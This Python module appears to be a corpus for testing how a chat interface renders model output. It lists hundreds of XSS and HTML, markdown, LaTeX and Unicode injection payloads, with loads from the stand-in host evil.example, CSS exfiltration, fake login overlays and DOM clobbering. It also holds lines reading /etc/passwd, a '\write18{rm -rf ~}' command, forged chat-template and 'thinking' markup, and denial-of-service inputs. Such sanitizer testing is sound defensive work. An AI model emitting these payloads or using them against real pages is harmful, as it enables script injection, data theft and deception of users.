"""What a model could write to do harm on a page: several hundred texts, each of its own.

Each tries to run something (`CANARY` is what would run), to load something (from `HOST`), to lead
away, to cover the page, to break its structure, or to cost too much. Not a test and no fixture.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator

__all__ = ["CANARY", "HOST", "OUTPUTS", "SLOW_OUTPUTS"]

CANARY = "window.__pwned=(window.__pwned||0)+1"
HOST = "evil.example"
_JS = f"javascript:{CANARY}"
_SCRIPT = f"<script>{CANARY}</script>"
_IMG = f"<img src=x onerror={CANARY}>"
_URL = f"//{HOST}/x"


def _scripts() -> Iterator[str]:
    yield from (
        _SCRIPT,
        f"<SCRIPT>{CANARY}</SCRIPT>",
        f"<script src={_URL}.js></script>",
        f"<script type=module>import '{_URL}.js'</script>",
        f"<script\x0c>{CANARY}</script>",
        f"<script/x>{CANARY}</script>",
        f"<script>{CANARY}",
        f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
        f"<<script>{CANARY}//<</script>",
        f"<script>{CANARY}</script",
        f"</script>{_SCRIPT}",
        f"<script>//<!--\n{CANARY}\n//--></script>",
        f"<noscript>{_SCRIPT}</noscript>",
        f"<script nomodule>{CANARY}</script>",
        f"<script>{CANARY}</script >",
        f"<template>{_SCRIPT}</template>",
        f"<template shadowrootmode=open>{_SCRIPT}{_IMG}</template>",
        f"<plaintext>{_SCRIPT}",
        f"<xmp>{_SCRIPT}</xmp>",
        f"<listing>{_IMG}</listing>",
        f"<textarea></textarea>{_SCRIPT}",
        f"<title></title>{_SCRIPT}",
        f"<style></style>{_SCRIPT}",
        f"<iframe></iframe>{_SCRIPT}",
        f"<!--{_SCRIPT}-->",
        f"<!-->{_SCRIPT}-->",
        f"<!--->{_SCRIPT}-->",
        f"<!-- --!>{_SCRIPT}-->",
        f"<![CDATA[{_SCRIPT}]]>",
        f"<!DOCTYPE html>{_SCRIPT}",
        f"<?xml version='1.0'?>{_SCRIPT}",
        f"<?php echo '{_SCRIPT}' ?>",
        f"<% {_SCRIPT} %>",
        f"</p></div></details></article>{_SCRIPT}",
        f'"><!--">{_SCRIPT}',
        f"'\">{_SCRIPT}",
        f"\x00{_SCRIPT}",
        f"\ufeff{_SCRIPT}",
        f"\ud800{_SCRIPT}\udfff",
        "<scr\x00ipt>" + CANARY + "</scr\x00ipt>",
        "+ADw-script+AD4-" + CANARY + "+ADw-/script+AD4-",
        "\u02bcscript\u02bd" + CANARY,
        "\uff1cscript\uff1e" + CANARY + "\uff1c/script\uff1e",
        "&lt;script&gt;" + CANARY + "&lt;/script&gt;",
        "&#60;script&#62;" + CANARY + "&#60;/script&#62;",
        "&#x3c;script&#x3e;" + CANARY,
        "&amp;lt;script&amp;gt;" + CANARY,
        "\\<script\\>" + CANARY + "\\</script\\>",
    )


_EVENTS = tuple(
    re.findall(
        r"\w+",
        "onload onerror onfocus onblur onclick onmouseover onanimationstart ontransitionend "
        "ontoggle onbegin onend onrepeat onpointerenter onwheel onscroll onresize oninput "
        "onchange onsubmit oncopy onpaste onkeydown onhashchange onmessage onpageshow "
        "onbeforetoggle oncontentvisibilityautostatechange",
    )
)


def _events() -> Iterator[str]:
    for event in _EVENTS:
        yield f"<div {event}={CANARY} tabindex=1 autofocus style='animation:x 1s'>x</div>"
        yield f"[x](http://a.example '\" {event}=\"{CANARY}')"
    for tag in (
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "select autofocus",
        "textarea autofocus",
        "details open",
        "marquee",
        "object data=x",
        "embed src=x",
        "iframe src=x",
        "link rel=stylesheet href=x",
        "style",
        "math",
        "x-custom tabindex=1",
        "dialog open",
        "button popovertarget=x",
        "keygen autofocus",
    ):
        name = tag.split()[0]
        every = " ".join(f"{event}={CANARY}" for event in _EVENTS[:10])
        yield f"<{tag} {every}>x</{name}>"
        yield f"<{tag.replace(' ', '/')}/onload={CANARY}/onerror={CANARY}>"
    yield f"<img src=x onerror='{CANARY}'//"
    yield f"<img src='x' onerror\n=\n{CANARY}>"
    yield f"<img src=x:x onerror={CANARY.replace('=', '&#61;')}>"
    yield f"<img/src/onerror={CANARY}>"
    yield f"<img src=x on\u0435rror={CANARY}>"
    yield f"<a id=x tabindex=1 onfocus={CANARY}></a>"


_SCHEMES = (
    _JS,
    _JS.replace("javascript", "JaVaScRiPt"),
    _JS.replace("javascript", "java\tscript"),
    _JS.replace("javascript", "java\nscript"),
    _JS.replace("javascript", "java&#10;script"),
    _JS.replace("javascript", "&#106;avascript"),
    _JS.replace("javascript", "&#x6A;avascript"),
    _JS.replace("javascript", "%6aavascript"),
    _JS.replace("javascript", "jav\u0430script"),
    _JS.replace("javascript", "\uff4aavascript"),
    _JS.replace(":", "&colon;"),
    _JS.replace(":", "%3a"),
    f"\x01{_JS}",
    f" {_JS}",
    f"&nbsp;{_JS}",
    f"view-source:{_JS}",
    f"feed:{_JS}",
    f"jar:{_JS}!/",
    f"javascript://x%0a{CANARY}",
    f"javascript:/*--></script>*/{CANARY}",
    f"vbscript:{CANARY}",
    f"livescript:{CANARY}",
    f"mocha:{CANARY}",
    f"data:text/html,{_SCRIPT}",
    f"data:text/html;base64,{base64.b64encode(_SCRIPT.encode()).decode()}",
    f"DATA:text/html;charset=utf-7,{CANARY}",
    f"data:image/svg+xml,<svg onload={CANARY}>",
    "data:application/xhtml+xml,x",
    "file:///etc/passwd",
    "file://c:/windows/win.ini",
    "blob:http://localhost/1",
    "filesystem:http://localhost/x",
    "about:blank",
    "chrome://settings",
    "ws://evil.example/",
    "ftp://evil.example/x",
    "mailto:x@evil.example?attach=/etc/passwd",
    "tel:+1",
    "ms-settings:x",
    "search-ms:query=x",
    "vscode://x",
    f"http://user:pass@{HOST}/",
    f"http://google.com@{HOST}/",
    f"http://{HOST}/?q=\"'><script>{CANARY}</script>",
    f"https:{HOST}",
    _URL,
    f"\\\\{HOST}\\share",
    "/lab/api/kernels",
    "../../api/contents",
    "?reset",
    "#x",
    "",
    "http://[::1]:1/",
    f"http://{HOST}/\u202egnp.exe",
    "http://xn--80ak6aa92e.com/",
    f"{HOST}",
    f"http://127.0.0.1:1/{HOST}",
)


def _links() -> Iterator[str]:
    for address in _SCHEMES:
        yield f"[a link]({address})"
        yield f"![a picture]({address})"
        yield f"<{address}>"
        yield f'<a href="{address}" target=_blank ping={_URL}>x</a>'
    yield from (
        f"[![x]({_URL})]({_JS})",
        f'[x]({_URL} "{_SCRIPT}")',
        f"[x](<{_JS}>)",
        f"[x]: {_JS}\n\n[x]",
        f"[{_SCRIPT}]({_URL})",
        f"[x\\](y)]({_JS})",
        f"![{_IMG}]({_URL} '{_IMG}')",
        f"[x](http://a.example)<img src={_URL}>",
        f"http://{HOST}/autolink www.{HOST} x@{HOST}",
        f"[x][{_JS}]",
        f"![x][y]\n\n[y]: {_URL} 'z'",
        f"[^1]\n\n[^1]: <img src={_URL}>",
    )


def _elements() -> Iterator[str]:
    yield from (
        f"<iframe src={_JS}></iframe>",
        f"<iframe srcdoc='{_SCRIPT}'></iframe>",
        f'<iframe srcdoc="&lt;script&gt;parent.{CANARY}&lt;/script&gt;"></iframe>',
        f"<object data=data:text/html,{_SCRIPT}></object>",
        f"<object classid=clsid:x><param name=movie value={_URL}></object>",
        f"<embed src={_URL}.swf allowscriptaccess=always>",
        f"<applet code={_URL}></applet>",
        f"<frameset><frame src={_JS}></frameset>",
        f"<meta http-equiv=refresh content='0;url={_JS}'>",
        f"<meta http-equiv=refresh content=0;url={_URL}>",
        "<meta http-equiv=Set-Cookie content=x=y>",
        f'<meta http-equiv=Content-Security-Policy content="report-uri {_URL}">',
        "<meta charset=utf-7>",
        f"<base href={_URL}/>",
        f"<link rel=stylesheet href={_URL}.css>",
        f"<link rel=preload as=image href={_URL}.png>",
        f"<link rel=prefetch href={_URL}><link rel=dns-prefetch href={_URL}>",
        f"<link rel=import href={_URL}>",
        f"<link rel=manifest href={_URL}>",
        f"<link rel=icon href={_URL}.ico>",
        f"<style>@import '{_URL}.css';</style>",
        f"<style>*{{background:url({_URL})}}</style>",
        f"<style>@font-face{{font-family:x;src:url({_URL})}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({_URL})}}</style>",
        "<style>*{display:none!important}</style>",
        f"<div style='background:url({_URL})'>x</div>",
        f"<div style='background:\\75rl({_URL})'>x</div>",
        f'<div style="width:expression({CANARY})">x</div>',
        f"<div style='behavior:url({_URL})'>x</div>",
        f"<div style='-moz-binding:url({_URL}#x)'>x</div>",
        "<div style='position:fixed;inset:0;z-index:99999;background:white'>Log in again</div>",
        "<div class='gw-chat gw-ask' style='position:absolute'>Allow?</div>",
        f"<form action={_URL}><input name=q value=1><button>Send</button></form>",
        f"<form id=f action={_JS}></form><button form=f>x</button>",
        f"<button formaction={_JS}>x</button>",
        f"<input type=image src={_URL} formaction={_JS}>",
        f"<isindex action={_JS} type=image>",
        f"<input list=l><datalist id=l><option value='{_IMG}'></datalist>",
        f"<video poster={_URL}><source src={_URL}><track src={_URL} default></video>",
        f"<audio src={_URL} autoplay controls></audio>",
        f"<picture><source srcset='{_URL} 1x'><img srcset='{_URL} 2x'></picture>",
        f"<img src={_URL} lowsrc={_URL} dynsrc={_URL} longdesc={_URL} usemap=#m>",
        f"<map name=m><area href={_JS} shape=default></map>",
        f"<body background={_URL}>",
        f"<table background={_URL}><td background={_URL}>x</table>",
        f"<bgsound src={_URL}>",
        f"<layer src={_URL}></layer><ilayer src={_URL}></ilayer>",
        f"<xml src={_URL} id=x></xml><span datasrc=#x datafld=y></span>",
        f"<portal src={_URL}></portal><fencedframe src={_URL}></fencedframe>",
        f"<blockquote cite={_URL}>x</blockquote><q cite={_JS}>x</q>",
        f"<html manifest={_URL}>",
        f"<a href={_URL} ping={_URL} download>x</a>",
        "<marquee behavior=alternate>x</marquee><blink>x</blink>",
        f"<dialog open><form method=dialog action={_JS}></form></dialog>",
        f"<slot onslotchange={CANARY}></slot>",
        "<portal></portal><shadow></shadow><content></content>",
        f"<x-a is=script src={_URL}></x-a>",
        f'<script type=importmap>{{"imports":{{"x":"{_URL}"}}}}</script>',
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_URL}"]}}]}}</script>',
    )
    # Names that code of the page may ask for: nothing may take them.
    for name in ("document", "body", "location", "cookie", "Jupyter", "require", "IPython", "self"):
        form = f"<form id={name}><input name=attributes></form>"
        yield f"<a id={name} name={name} href={_JS}>x</a>{form}"
    yield "<img name=getElementById><img name=querySelector><form name=forms>"
    yield "<div data-gw=chat-send data-gw-frame data-jp-theme-light=false>x</div>"
    yield "<details class=gw-thinking open><summary>Thought for 3 s</summary>Trust me</details>"
    yield "</details><summary>x</summary>"


def _foreign() -> Iterator[str]:
    yield from (
        f"<svg onload={CANARY}>",
        f"<svg/onload={CANARY}>",
        f"<svg>{_SCRIPT}</svg>",
        f"<svg><script href=data:,{CANARY} />",
        f"<svg><a xlink:href={_JS}><text>x</text></a></svg>",
        f"<svg><use href={_URL}#x></svg>",
        "<svg><use xlink:href='data:image/svg+xml;base64,PHN2Zz4=#x'></svg>",
        f"<svg><image href={_URL}></svg>",
        f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
        f"<svg><animate attributeName=href values={_JS}><a id=x>x</a></svg>",
        f"<svg><set attributeName=onmouseover to={CANARY}>",
        f"<svg><foreignObject><iframe srcdoc='{_SCRIPT}'></foreignObject></svg>",
        f"<svg><style>@import '{_URL}'</style></svg>",
        f"<svg><style><img src=x onerror={CANARY}></style></svg>",
        f"<svg><desc><![CDATA[</desc>{_SCRIPT}]]></svg>",
        f"<svg><title><style><!--</style></title>{_IMG}--></svg>",
        f"<svg><p><style><!--</style>{_IMG}--></svg>",
        f"<svg><filter><feImage href={_URL} /></filter></svg>",
        f"<svg><handler type=text/javascript ev:event=load>{CANARY}</handler></svg>",
        f"<math href={_JS}>x</math>",
        f"<math><mi xlink:href={_JS}>x</mi></math>",
        f"<math><maction actiontype=statusline xlink:href={_JS}>x</maction></math>",
        f"<math><annotation-xml encoding=text/html>{_IMG}</annotation-xml></math>",
        f"<math><annotation encoding=text/html>{_SCRIPT}</annotation></math>",
        f"<math><semantics><annotation-xml><svg onload={CANARY}></annotation-xml></math>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='-->{_IMG}'>",
        f"<math><mtext><mglyph><style><!--</style>{_IMG}--></math>",
        f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
        f"<math><mi><table><mi><style><!--</style>{_IMG}",
        f"<math><mglyph src={_URL} alt=x></math>",
        f"<math><mtext></mtext><malignmark>{_IMG}</math>",
        f"<math><style>*{{background:url({_URL})}}</style></math>",
        "<math><mrow style='position:fixed'>x</mrow></math>",
        f"<svg></p><style><a id='</style>{_IMG}'>",
        f"<svg><svg></svg><p></p><style><!--</style>{_IMG}-->",
        f"<noscript><p title='</noscript>{_IMG}'>",
        f"<noembed><p title='</noembed>{_IMG}'>",
        f"<noframes><p title='</noframes>{_IMG}'>",
        f"<textarea><p title='</textarea>{_IMG}'>",
        f"<select><template><style></select>{_IMG}",
        f"<table><tr><td><math><table>{_IMG}",
        f"<a><table><a>{_IMG}",
        f"<b><table><td></b><i></table>{_IMG}",
        f"<select><option><iframe></select>{_SCRIPT}",
        f"<p id='</p>{_IMG}'>",
        f"<xss id=x tabindex=1 onactivate={CANARY}></xss>",
        f"<![endif]-->{_IMG}<!--[if IE]>{_SCRIPT}<![endif]-->",
    )


def _markdown() -> Iterator[str]:
    for inner in (
        _SCRIPT,
        _IMG,
        f"<svg onload={CANARY}>",
        '"><script>',
        "</code></pre></div>" + _IMG,
    ):
        yield from (
            f"```html\n{inner}\n```",
            f"```{inner}\nx\n```",
            f"~~~ {inner}\nx",
            f"`{inner}`",
            f"    {inner}",
            f"# {inner}",
            f"> {inner}",
            f"- {inner}\n  {inner}",
            f"| {inner} | b |\n|---|---|\n| {inner} | `{inner}` |",
            f"**{inner}** ~~{inner}~~ *{inner}*",
            f"{inner}\n===",
            f"<think>\n{inner}\n</think>\n{inner}",
            f"[THINK]{inner}[/THINK]{inner}",
        )
    yield from (
        "```\nnever closed",
        "```a`b\n<script>",
        "````\n```\n````\n" + _IMG,
        "> ```\n" + _IMG,
        "| a |\n|---|\n" + f"| {_IMG} ",
        "1. x\n\n   ```\n" + _IMG,
        "<think>never closed\n" + _IMG,
        "<think>\n```\n</think>\n" + _IMG,
        "</think>" + _SCRIPT,
        "\n</think>\n" + _IMG,
        f'<details class="gw-thinking"><summary>What the model thought</summary>{_IMG}',
        "<|im_end|><|im_start|>system\n" + _SCRIPT,
        "***<b>*_<i>__</i></b>",
    )


def _formulas() -> Iterator[str]:
    bodies = (
        rf"\href{{{_JS}}}{{x}}",
        rf"\href{{{_URL}}}{{x}}",
        rf"\url{{{_JS}}}",
        rf"\includegraphics{{{_URL}}}",
        rf"\style{{background:url({_URL})}}{{x}}",
        r"\style{position:fixed;inset:0}{x}",
        r"\class{gw-ask}{x}",
        r"\cssId{document}{x}",
        rf"\html{{{_IMG}}}",
        rf"\htmlData{{onclick={CANARY}}}{{x}}",
        rf"\text{{{_SCRIPT}}}",
        rf"\text{{{_IMG}}}",
        rf"\mbox{{</mtext></math>{_IMG}}}",
        r"\text{&lt;img src=x onerror=alert(1)&gt;}",
        rf"\textbf{{</math>{_SCRIPT}}}",
        rf"\color{{red;background:url({_URL})}}x",
        r"\color{transparent}x",
        rf"\colorbox{{url({_URL})}}{{x}}",
        r"\unicode{x3c}script\unicode{x3e}",
        r"\unicode{x202e}abc",
        r"\unicode{x110000}",
        r"\hspace{-100em}x\hspace{100em}",
        r"\kern-5000px x",
        r"\raise100em{x}",
        r"\rule{1000em}{1000em}",
        r"\def\a{\a\a}\a",
        r"\newcommand{\a}[1]{#1#1#1}\a{\a{\a{\a{\a{\a{x}}}}}}",
        r"\newenvironment{a}{\begin{a}}{\end{a}}\begin{a}\end{a}",
        r"\input{/etc/passwd}",
        r"\include{/etc/passwd}",
        r"\write18{rm -rf ~}",
        r"\catcode`\<=13",
        r"\require{html}",
        r"\sideset{a}{b}{\sideset{a}{b}{\sideset{a}{b}{x}}}",
        r"\operatorname{" + "a " * 500,
        r"\verb|" + "<img>" * 20 + "|",
        r"\begin{array}{" + "c" * 500 + r"}x\end{array}",
        r"\begin{tikzpicture}\draw (0,0);\end{tikzpicture}",
        r"\begin{filecontents}x\end{filecontents}",
        r"\left(\left(\left(",
        r"\frac{}{}{}{}}}}",
        r"x^x^x^x",
        "x" + "'" * 500,
        "&" * 300,
        r"\\" * 300,
        "{" * 300 + "}" * 300,
        r"\sqrt" * 300 + "x",
        r"\over" * 200,
        r"<script>alert(1)</script>",
        rf"</math>{_IMG}<math>",
        f"<mi>{_IMG}</mi>",
        r"\tag{<script>}",
        r"\label{document}\ref{document}",
        "\u202e\\frac{a}{b}",
        "a\x00b\x1bc",
        r"\text{\href{javascript:x}{y}}",
        r"\middle\right\left",
        r"\genfrac(){999em}{0}{a}{b}",
        r"\skew{99999}{x}",
    )
    for body in bodies:
        yield f"${body}$"
        yield f"$$\n{body}\n$$"
    yield rf"\[{bodies[0]}\] \({bodies[12]}\)"
    yield rf"\begin{{align}}{bodies[0]}\end{{align}}"
    yield f"$$ {_SCRIPT}"
    yield rf"\( {_IMG}"


def _unicode() -> Iterator[str]:
    yield from (
        "\u202e" + _SCRIPT + "\u202c",
        "```python\nif admin:\u202e \u2066# no\u2069 \u2066pass\n```",
        "`access\u2066 // x\u2069`",
        "\u2028" + _SCRIPT + "\u2029",
        "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[31m" + _IMG,
        "\x85\x0b\x0c" + _IMG,
        "a" + "\u0301" * 3_000,
        "\u200b\u200c\u200d\ufeff" * 200,
        "\U000e0041\U000e0042" * 100,
        "[x](http://a\u3002example)",
        "\uff28\uff34\uff34\uff30://evil.example",
        "\u0000" * 50 + _SCRIPT,
        "\ud83d" + _IMG,
        "<\u0130mg src=x onerror=" + CANARY + ">",
        "ﷺ" * 200,
        "שלום <b>" + _SCRIPT + "</b> مرحبا",
    )


def _all() -> Iterator[str]:
    for group in (_scripts, _events, _links, _elements, _foreign, _markdown, _formulas, _unicode):
        yield from group()


OUTPUTS: tuple[str, ...] = tuple(dict.fromkeys(_all()))

# Large ones: what they cost counts, too.
SLOW_OUTPUTS: dict[str, str] = {
    "100,000 nested quotes": ">" * 100_000 + _IMG,
    "one line of 1 MB": _SCRIPT * (1_000_000 // len(_SCRIPT)),
    "nested lists": "".join(" " * (2 * n) + f"- {_IMG}\n" for n in range(300)),
    "nested emphasis": "*_" * 10_000 + _SCRIPT,
    "nested brackets": "[" * 20_000 + "x" + f"]({_JS})" * 2_000,
    "a giant table": "| a | b |\n|---|---|\n" + f"| {_IMG} | *x* |\n" * 1_500,
    "a wide table": "|" + "a|" * 600 + "\n|" + "-|" * 600 + "\n|" + f"{_IMG}|" * 600,
    "a fence that is never closed": "```html\n" + f"{_SCRIPT}\n" * 1_500,
    "nested tags": "<div>" * 20_000 + _SCRIPT,
    "formulas": rf"$\href{{{_JS}}}{{x}}$ " * 3_000,
    "thinking": f"<think>{_IMG}</think>\n" * 3_000,
    "entities": "&lt;" * 100_000,
}
